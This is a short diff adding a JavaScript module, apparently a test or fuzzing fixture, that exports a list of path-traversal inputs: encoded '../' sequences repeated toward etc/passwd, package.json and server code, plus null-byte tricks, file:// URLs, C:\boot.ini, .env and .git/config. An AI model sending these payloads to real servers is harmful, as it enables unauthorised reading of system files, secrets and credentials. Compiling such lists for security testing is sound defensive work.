@@ -1,0 +1,32 @@
+const up = [
+  '../',
+  '..%2f',
+  '%2e%2e/',
+  '%2e%2e%2f',
+  '..%252f',
+  '..%5c',
+  '..\\',
+  '..%c0%af',
+  '..%e0%80%af',
+  '....//',
+  '..;/',
+]
+
+const goals = ['package.json', 'etc/passwd', 'server/main.js']
+
+/** Ways to a file that is not for everybody, written as servers of many kinds once understood them. */
+export const waysOut = [
+  ...up.flatMap((step) => goals.map((goal) => step.repeat(6) + goal)),
+  '%00',
+  'x.jpg%00.html',
+  '..',
+  '%2e%2e',
+  '.',
+  '/etc/passwd',
+  '%2fetc%2fpasswd',
+  'C:%5cboot.ini',
+  'file:%2f%2f%2fetc%2fpasswd',
+  '.env',
+  '.git/config',
+  '%u002e%u002e%u2215etc%u2215passwd',
+]
